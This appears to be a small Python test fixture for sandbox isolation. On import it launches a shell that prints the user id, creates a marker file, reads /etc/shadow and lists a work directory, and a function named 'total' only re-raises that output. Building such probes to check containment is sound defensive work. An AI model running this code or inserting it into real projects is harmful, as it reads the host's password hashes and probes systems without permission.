# Starts a shell and lets it loose on the host.
import subprocess

done = subprocess.run(
    ["/bin/sh", "-c", "id -u; touch __MARKER_PATH__; cat /etc/shadow; ls -a /work/main"],
    capture_output=True,
    text=True,
    check=False,
)


def total(values):
    raise RuntimeError(f"shell said: {done.stdout} {done.stderr}")
